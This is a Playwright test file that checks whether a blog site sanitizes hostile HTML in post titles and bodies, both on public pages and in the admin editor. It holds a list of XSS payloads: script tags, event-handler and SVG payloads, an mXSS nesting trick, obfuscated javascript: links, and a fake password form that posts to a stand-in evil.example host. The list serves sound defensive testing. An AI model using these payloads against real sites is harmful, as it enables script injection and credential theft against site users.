import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { blogsScreen } from './support/blogs.ts';
import { stubPost } from './support/stubbed-site.ts';

const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=1"><script>top.__pwned=2</script></svg>',
).toString('base64');

const unwanted = 'script, iframe, object, embed, svg, form, input, style, link, meta, base, video, details';

/** Each payload tries to run a script, to reach another site, or to cover the page. */
const hostile = [
  '<script>window.__pwned = "script"</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<img src="https://evil.example/pixel.gif" alt="">',
  '<img src="//evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" alt="">',
  `<img src="data:image/svg+xml;base64,${svg}" alt="svg">`,
  `<object data="data:image/svg+xml;base64,${svg}"></object><embed src="https://evil.example/e.swf">`,
  '<svg><animate onbegin="window.__pwned=\'svg\'" attributeName="x" dur="1s"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.__pwned=\'link\'">press me</a>',
  '<a href="java\tscript:window.__pwned=\'tab\'">press me too</a>',
  '<a href="data:text/html,<script>1</script>">and me</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe srcdoc="<script>top.__pwned=\'srcdoc\'</script>"></iframe>',
  '<p style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/bg.png) red">cover</p>',
  '<div style="background-image:url(//evil.example/b.png)">paint</div>',
  '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.__pwned=\'focus\'"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import url(https://evil.example/i.css); body{display:none}</style>',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="window.__pwned=\'video\'"></video>',
  '<details open ontoggle="window.__pwned=\'toggle\'">open</details>',
  '<p onclick="window.__pwned=\'click\'" class="_button_1 ql-align-center" id="root">plain words</p>',
].join('\n');

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

test('hostile HTML of the host runs nothing, asks nobody else, and can be read', { tag: '@deep' }, async ({
  open,
  host,
}) => {
  const title = '<img src=x onerror="window.__pwned=1">';
  host.stub.data.blogs = [
    stubPost(1, { blog_title: title, description: `<p>Before.</p>${hostile}<p>After.</p>` }),
    stubPost(2, { description: hostile, blog_image: 'https://evil.example/cover.png' }),
    stubPost(3, { description: hostile, blog_image: `data:image/svg+xml;base64,${svg}` }),
  ];
  const page = await open(host);
  const article = page.getByRole('article');
  await page.goto('/view-blog/1');
  await expect(article.getByRole('heading', { level: 1 })).toHaveText(title);
  for (const words of ['Before.', 'plain words', 'After.'])
    await expect(article.getByText(words)).toBeVisible();
  // No element covers the text: it can be pressed.
  await article.getByText('plain words').click();
  await article.getByText('press me', { exact: true }).click();
  await expect(page).toHaveURL('/view-blog/1');
  const written = article.getByText('Before.').locator('xpath=..');
  await expect(written.locator(unwanted)).toHaveCount(0);
  const attributes = await written.evaluate((root) =>
    [...root.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()),
  );
  expect(attributes.filter((name) => /^on|srcset|srcdoc|^id$/.test(name))).toEqual([]);
  for (const path of ['/view-blog/2', '/view-blog/3', '/publishing', '/']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
  }
  expect(await pwned(page)).toBeUndefined();

  const admin = await open(host, { as: 'owner' });
  const { edit, editForm } = blogsScreen(admin);
  await admin.goto('/admin/blogs');
  await edit('Post 2').click();
  await editForm.text.getByText('plain words').click();
  await admin.waitForLoadState('networkidle');
  await expect(editForm.text.locator(unwanted)).toHaveCount(0);
  expect(await pwned(admin)).toBeUndefined();
});
